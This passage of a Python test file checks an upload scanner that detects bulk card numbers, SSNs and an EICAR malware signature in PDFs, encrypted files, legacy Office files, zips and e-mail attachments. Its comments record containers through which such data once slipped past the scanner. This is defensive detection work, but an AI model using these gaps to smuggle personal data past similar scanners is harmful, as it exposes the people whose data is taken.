    result, findings = scan(data, "statements/cards.pdf")
    assert [f.rule_id for f in findings] == ["W2-bulk-personal-data"]
    assert [r.path for r in result.reports] == ["", "!/text"]


def test_a_pdf_inside_a_zip_is_read_too() -> None:
    pdf = samples.text_pdf([f"Card {c}" for c in samples.valid_cards(40)])
    result, findings = scan(samples.zip_bytes({"2026/statement.pdf": pdf}), "statements.zip")
    assert "W2-bulk-personal-data" in {f.rule_id for f in findings}
    assert "statement.pdf!/text" in " ".join(r.path for r in result.reports)


def test_an_invoice_pdf_is_clean() -> None:
    result, findings = scan(samples.text_pdf(["Invoice 4471", "Consulting, 12 h x 120.00 EUR"]), "inv.pdf")
    assert findings == [] and verdict(result.status, findings, POLICY) is Verdict.clean


def _encrypted(pdf: bytes, user_password: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_a_pdf_locked_with_a_password_is_never_clean_and_one_that_only_restricts_use_is_read() -> None:
    pdf = samples.text_pdf([f"Card {c}" for c in samples.valid_cards(40)])
    result, findings = scan(_encrypted(pdf, "secret"), "statements/locked.pdf")
    assert (
        result.status is ScanStatus.encrypted
        and verdict(result.status, findings, POLICY) is not Verdict.clean
    )
    _, findings = scan(_encrypted(pdf, ""), "statements/restricted.pdf")
    assert "W2-bulk-personal-data" in {f.rule_id for f in findings}


def test_files_attached_to_a_pdf_are_scanned_as_its_members() -> None:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(samples.text_pdf(["Invoice 4471"]))))
    writer.add_attachment("customers.csv", samples.cards_csv(40))
    out = io.BytesIO()
    writer.write(out)
    result, findings = scan(out.getvalue(), "docs/invoice.pdf")
    assert "W2-bulk-personal-data" in {f.rule_id for f in findings}
    assert "!/customers.csv" in [r.path for r in result.reports]


# Found the same way: a legacy Office document (OLE: .doc, .xls, .ppt) keeps its strings as 8-bit or
# UTF-16LE text inside its streams; none was read by the text detectors, so a .doc listing 40 card
# numbers was clean.

OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


@pytest.mark.parametrize(
    "encode",
    [
        lambda t: t.encode("utf-16-le"),
        lambda t: b"\x01" + t.encode("utf-16-le"),  # a string at an odd offset
        lambda t: t.encode("cp1252"),
    ],
    ids=["utf-16", "utf-16-odd", "8-bit"],
)
def test_the_strings_of_a_legacy_office_document_are_read(encode: Callable[[str], bytes]) -> None:
    body = "\r".join(f"Customer {i}: card {c}" for i, c in enumerate(samples.valid_cards(40)))
    _, findings = scan(OLE_HEADER + encode(body), "archive/customers.doc")
    assert [f.rule_id for f in findings] == ["W2-bulk-personal-data"]


def test_a_legacy_office_document_without_personal_data_is_clean() -> None:
    text = "Quarterly report\rRevenue grew 4% on the year; 12 new customers in the north region.\r"
    result, findings = scan(OLE_HEADER + text.encode("utf-16-le") * 20, "archive/report.doc")
    assert findings == [] and verdict(result.status, findings, POLICY) is Verdict.clean


# Found by the eval corpus's review (bank-statements): a month's bank statement lists its counterparties'
# IBANs; as CSV it was a strike, and once PDFs were read the same statement's PDF was a second: a firm
# doing its books was suspended. Bulk made by IBANs alone is a review; cards and SSNs in bulk still strike.


def _bulk_confidence(findings: list) -> float:
    (f,) = [f for f in findings if f.rule_id == "W2-bulk-personal-data"]
    return float(f.confidence)


def test_a_bank_statements_counterparty_ibans_are_a_review_never_a_strike() -> None:
    rows = [
        f"2026-11-{1 + i % 28:02d};Supplier {i} GmbH;{iban};-120.00"
        for i, iban in enumerate(_distinct_ibans(30))
    ]
    for data, name in [
        ("\n".join(rows).encode(), "books/statement.csv"),
        (samples.text_pdf(rows), "books/statement.pdf"),
    ]:
        result, findings = scan(data, name)
        assert _bulk_confidence(findings) < POLICY.rules["W2-bulk-personal-data"].confidence_bar
        assert verdict(result.status, findings, POLICY) is Verdict.review


def test_cards_in_bulk_beside_ibans_still_strike() -> None:
    rows = [f"{c};{iban}" for c, iban in zip(samples.valid_cards(12), _distinct_ibans(12), strict=True)]
    _, findings = scan("\n".join(rows).encode(), "export/payments.csv")
    assert _bulk_confidence(findings) >= POLICY.rules["W2-bulk-personal-data"].confidence_bar


# Found probing honest uploads: a parts list whose part numbers are written 415-22-9034 held 200 "valid
# SSNs" (an SSN has no check digit; nine in ten numbers of that shape pass the SSA's rules) and struck at
# 0.95. Numbers of that shape count as SSNs in bulk only where something names them so.


def _parts(header: str, n: int = 200) -> bytes:
    rows = [f"{ssn},Bolt M{3 + i % 9},{1 + i % 40}" for i, ssn in enumerate(samples.valid_ssns(n))]
    return "\n".join([header, *rows]).encode()


def test_a_parts_list_in_the_ssns_shape_is_a_review_never_a_strike() -> None:
    for header in ("part_no,description,qty", "classname,description,qty"):  # ("classname" names no SSN)
        result, findings = scan(_parts(header), "stock/parts.csv")
        (f,) = [f for f in findings if f.rule_id == "W2-bulk-personal-data"]
        assert (f.confidence, f.evidence["ssns_named"], f.evidence["distinct_ssns"]) == (0.7, False, 200)
        assert verdict(result.status, findings, POLICY) is Verdict.review, header


@pytest.mark.parametrize(
    "header",
    ["name,ssn,qty", "Name,SSN#,Qty", "employee_ssn,x,y", "Social Security Number,x,y", "SOC SEC,x,y"],
)
def test_the_same_numbers_named_as_ssns_still_strike(header: str) -> None:
    result, findings = scan(_parts(header), "hr/staff.csv")
    assert (
        _bulk_confidence(findings) == 0.95 and verdict(result.status, findings, POLICY) is Verdict.violation
    )


def test_an_ssn_named_in_another_file_of_the_upload_names_the_numbers_in_this_one() -> None:
    data = samples.zip_bytes({"README.txt": b"Staff SSNs, one a line.\n", "staff.txt": _parts("id,x,y")})
    _, findings = scan(data, "hr/staff.zip")
    assert _bulk_confidence(findings) == 0.95
    alone = samples.zip_bytes({"README.txt": b"Parts, one a line.\n", "staff.txt": _parts("id,x,y")})
    assert _bulk_confidence(scan(alone, "stock/parts.zip")[1]) == 0.7


# Found the same way: an e-mail (.eml) sends its attachments base64-encoded, so an export of a mailbox
# carrying a zipped EICAR and a list of 40 card numbers was clean.


def _mail(*attachments: tuple[str, bytes, str]) -> bytes:
    return samples.email_with("November export", "The export is attached.", list(attachments))


def test_the_encoded_attachments_of_an_email_are_scanned_as_its_members() -> None:
    data = _mail(
        ("customers.csv", samples.cards_csv(40), "text/csv"),
        ("tools.zip", samples.eicar_zipped(), "application/zip"),
    )
    assert sniff(data[:4096], "export.eml").label == "email"
    result, findings = scan(data, "mail/export.eml")
    assert {"W2-bulk-personal-data", "I3-malware-signature"} <= {f.rule_id for f in findings}
    assert {"!/customers.csv", "!/tools.zip"} <= {r.path for r in result.reports}


def test_an_email_with_an_invoice_is_clean_and_headers_in_a_note_are_no_email() -> None:
    data = _mail(("invoice.pdf", samples.text_pdf(["Invoice 4471", "Consulting, 12 h"]), "application/pdf"))
    result, findings = scan(data, "mail/invoice.eml")
    assert findings == [] and verdict(result.status, findings, POLICY) is Verdict.clean
    assert "!/invoice.pdf!/text" in {r.path for r in result.reports}
    assert sniff(b"Subject: minutes\nAttendees: 4\n\nWe agreed on the plan.\n", "notes.txt").label == "text"
